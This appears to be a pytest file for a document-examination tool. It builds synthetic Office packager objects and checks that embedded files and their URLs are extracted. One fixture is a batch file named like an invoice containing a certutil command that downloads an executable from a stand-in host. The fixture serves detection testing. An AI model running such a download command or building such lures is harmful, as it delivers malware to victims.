"""Files in packager objects of Office documents, by the layout of their native stream ([MS-OLEDS] 2.3.6)."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

import pytest

from noroshi.examine.traces import traces_of
from tests.examine.documents import compound

if TYPE_CHECKING:
    from tests.examine.conftest import Examine


def native(label: str, content: bytes) -> bytes:
    """A packager's stream: label, path, temporary path, content."""
    paths = f"C:\\Users\\user\\{label}".encode("cp932") + b"\0"
    body = b"\x02\0" + label.encode("cp932") + b"\0" + paths + b"\0\0\x03\0"
    body += struct.pack("<I", len(paths)) + paths + struct.pack("<I", len(content)) + content
    return struct.pack("<I", len(body)) + body


@pytest.mark.parametrize("label", ["invoice.bat", "請求書.bat"])
def test_a_packed_file_is_a_specimen(examined: Examine, label: str) -> None:
    """With its label, in the system's code page, and exactly its bytes."""
    batch = b"@echo off\r\ncertutil -urlcache -f http://packed.example/a.exe a.exe\r\n"
    document = compound({"ObjectPool": {"_1": {"\x01Ole10Native": native(label, batch)}}})
    result = examined(document, "a.doc")
    assert [(label, "batch", len(batch))] == [(node.name, node.type, node.size) for node in result.nodes[1:2]]
    assert "http://packed.example/a.exe" in {trace.value for trace in traces_of(result)}


def test_a_packed_file_that_ends_early(examined: Examine) -> None:
    """What is there is examined."""
    raw = native("a.txt", b"http://packed.example/a" + bytes(2_000))[:-1_990]
    result = examined(compound({"_1": {"\x01Ole10Native": raw}}), "a.doc")
    assert ["ole", "unknown"] == [node.type for node in result.nodes]
